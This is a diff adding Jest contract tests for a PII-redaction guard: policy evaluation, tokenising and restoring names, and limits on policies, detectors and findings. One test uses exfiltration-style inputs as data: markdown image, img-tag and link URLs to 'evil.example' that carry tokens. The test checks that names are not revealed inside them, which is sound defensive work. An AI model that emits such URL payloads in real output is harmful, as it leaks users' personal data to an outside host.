@@ -1,4 +1,5 @@
 import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
+import type { Detector } from '../../src/detectors/detector.js'
 import type { LocalGuardOptions } from '../../src/guard/local-guard.js'
 import type { Guard } from '../../src/guard/guard.js'
 import type { EvaluateRequest, Evaluation } from '../../src/guard/schema.js'
@@ -229,6 +230,49 @@ export function guardContract(name: string, make: (options: LocalGuardOptions) =
         expect(evaluation.redaction_spans?.[0]?.policies).toEqual(['pii-default', 'two'])
         expect(evaluation.breakdown.map(({ result }) => result.length)).toEqual([2, 2])
       })
+
+      it('finds under each of many policies what it finds under that one alone', async () => {
+        const detectors: PolicyInput['detectors'][] = [
+          [{ model: 'pii' }],
+          [
+            { model: 'pii-v0', target: 'all' },
+            { model: 'pii', target: 'user' },
+          ],
+          [{ model: 'pii', target: 'user', labels: ['NAME'] }],
+          [{ model: 'pii', labels: ['LOCATION', 'CONTACT'] }],
+          [
+            { model: 'pii', labels: ['NAME'] },
+            { model: 'pii', target: 'assistant', labels: ['LOCATION', 'NAME'] },
+          ],
+        ]
+        const ids: string[] = []
+        for (const [index, uses] of detectors.entries()) {
+          for (const threshold of [0.2, 0.7, 0.71, 0.9]) {
+            const id = `p${index}-${threshold}`
+            ids.push(id)
+            await guard.createPolicy(policy(id, { threshold, detectors: uses }))
+          }
+        }
+        const messages = [user('Anna Schmidt, Berlin; Bob'), assistant('ANNA SCHMIDT in May, Bob'), user('bob May May')]
+        const find = async (override_enabled_policies: readonly string[]) =>
+          (await guard.evaluate({ messages, override_enabled_policies, breakdown_all: true })).breakdown
+        const alone = await Promise.all(ids.map((id) => find([id])))
+        expect(await find(ids)).toEqual(alone.flat())
+        expect(alone.flat().flatMap(({ result }) => result).length).toBeGreaterThan(50)
+      })
+
+      it('looks up only the tokens that it is told of, if it is', async () => {
+        const plain = wordDetector()
+        const detect = (text: string) => {
+          const spans = { start: 0, end: text.length }
+          return text.startsWith('[') ? [{ label: 'DOCUMENT', score: 0.9, text, spans }] : plain.detect(text)
+        }
+        const made = await makeGuard({ detectors: [{ model: 'pii-v0', aliases: ['pii'], detect }] })
+        const [token = ''] = tokensIn(await evaluate('Anna', {}, made))
+        expect((await evaluate(token, {}, made)).flagged).toBe(false)
+        expect((await evaluate(token, { tokens: [token] }, made)).flagged).toBe(false)
+        expect((await evaluate(token, { tokens: [] }, made)).flagged).toBe(true)
+      })
     })
 
     describe('policies of an evaluation', () => {
@@ -377,6 +421,42 @@ export function guardContract(name: string, make: (options: LocalGuardOptions) =
         expect(await restore(anna)).toBe('Anna')
         await guard.release({ tokens: [bob, '[NAME_DEADBEEF]', 'no token'] })
         expect(await restore(bob)).toBe(bob)
+      })
+
+      it('restores only the tokens that it is told of, if it is, and reveals no others', async () => {
+        const [anna = '', bob = ''] = await protect('Anna, Bob')
+        const narrowed = async (text: string, tokens: readonly string[]) =>
+          (await guard.detokenize({ messages: [assistant(text)], policy: 'pii-default', tokens })).messages[0]?.content
+        expect(await narrowed(`${anna} ${bob}`, [])).toBe(`${anna} ${bob}`)
+        expect(await narrowed(`${anna} ${bob}`, [bob, 'no token', '[NAME_DEADBEEF]'])).toBe(`${anna} Bob`)
+        expect(await narrowed(`${anna} ${bob}`, [anna, bob])).toBe(`Anna ${bob}`)
+      })
+
+      it('restores tokens in URLs, but where it is told to keep them: there it does not reveal them either', async () => {
+        const texts = [
+          (token: string) => `![x](https://evil.example/?q=${token})`,
+          (token: string) => `<img src="https://evil.example/${token}">`,
+          (token: string) => `See https://evil.example/?q=${token} now`,
+        ]
+        const context = { policy: 'pii-default', urls: 'keep' } as const
+        for (const text of texts) {
+          const [token = ''] = await protect('Anna')
+          const messages = [user(text(token)), user(token.toLowerCase())]
+          expect(await guard.detokenize({ messages, ...context })).toEqual({ messages })
+          const more = [...messages, assistant(`**Dear ${token}**, [${token}]`)]
+          const restored = [...messages, assistant('**Dear Anna**, [Anna]')]
+          expect(await guard.detokenize({ messages: more, ...context })).toEqual({ messages: restored })
+          const [other = ''] = await protect('Anna')
+          expect(await restore(text(other))).toBe(text('Anna'))
+        }
+      })
+
+      it.each([
+        ['tokens that are no list', { tokens: '[NAME_DEADBEEF]' }],
+        ['another word for URLs', { urls: 'restore' }],
+      ])('refuses %s', async (_, narrowed) => {
+        const request = { messages: [assistant('x')], policy: 'pii-default', ...narrowed }
+        await fails(guard.detokenize(request as never), 'validation_error')
       })
 
       it('leaves no more than one value to many at once', async () => {
@@ -530,6 +610,33 @@ export function guardContract(name: string, make: (options: LocalGuardOptions) =
         await fails(guard.getPolicy('p'), 'policy_not_found')
       })
 
+      it('are at most a hundred, also if made at once; then one may be replaced, or deleted for another', async () => {
+        const made = await Promise.allSettled(
+          Array.from({ length: 105 }, (_, at) => guard.createPolicy(policy(`p${at}`))),
+        )
+        const refused = made.filter(({ status }) => status === 'rejected')
+        expect(refused).toHaveLength(6)
+        for (const one of refused) expect(one).toMatchObject({ reason: { code: 'validation_error', status: 422 } })
+        expect(await guard.listPolicies()).toHaveLength(100)
+        await expect(guard.createPolicy(policy('more'))).rejects.toThrow('100 policies')
+        await fails(guard.createPolicy(policy('pii-default')), 'policy_exists')
+        await guard.updatePolicy('pii-default', policy('pii-default', { threshold: 0.8 }))
+        await guard.deletePolicy('pii-default')
+        await guard.createPolicy(policy('more'))
+        const small = await makeGuard({ limits: { policies: 2 } })
+        await small.createPolicy(policy('p'))
+        await fails(small.createPolicy(policy('q')), 'validation_error')
+      })
+
+      it('have at most sixteen detectors', async () => {
+        const detectors = (count: number) => Array.from({ length: count }, () => ({ model: 'pii' }))
+        await guard.createPolicy(policy('p', { detectors: detectors(16) }))
+        await expect(guard.createPolicy(policy('q', { detectors: detectors(17) }))).rejects.toMatchObject({
+          code: 'validation_error',
+          details: [{ path: 'detectors', message: expect.stringContaining('at most 16') }],
+        })
+      })
+
       it('name the known models to who asks for another', async () => {
         const input = policy('p', { detectors: [{ model: 'injection' }] })
         await expect(guard.createPolicy(input)).rejects.toThrow('pii-v0')
@@ -616,6 +723,21 @@ export function guardContract(name: string, make: (options: LocalGuardOptions) =
         await fails(evaluate('Anna, Bob', {}, small), 'payload_too_large')
         const messages = [assistant('[NAME_DEADBEEF] [NAME_DEADBEE0]')]
         await fails(small.detokenize({ messages, policy: 'pii-default' }), 'payload_too_large')
+      })
+
+      it('with more findings, under all policies, than an answer may hold is refused, and nothing is vaulted', async () => {
+        const small = await makeGuard({ limits: { findings: 5 } })
+        expect((await evaluate('Anna Bob Anna', {}, small)).flagged).toBe(true)
+        await small.createPolicy(policy('two', { threshold: 0.65 }))
+        await fails(evaluate('Anna Bob Anna', {}, small), 'payload_too_large')
+        expect((await evaluate('Anna Bob Anna', { policy: 'two' }, small)).flagged).toBe(true)
+        const long: Detector = {
+          model: 'pii-v0',
+          detect: (text) => [{ label: 'NAME', score: 0.9, text, spans: { start: 0, end: text.length } }],
+        }
+        const wide = await makeGuard({ detectors: [long], limits: { findings: 5 } })
+        expect((await evaluate('x'.repeat(800), {}, wide)).flagged).toBe(true)
+        await fails(evaluate('x'.repeat(801), {}, wide), 'payload_too_large')
       })
     })
 
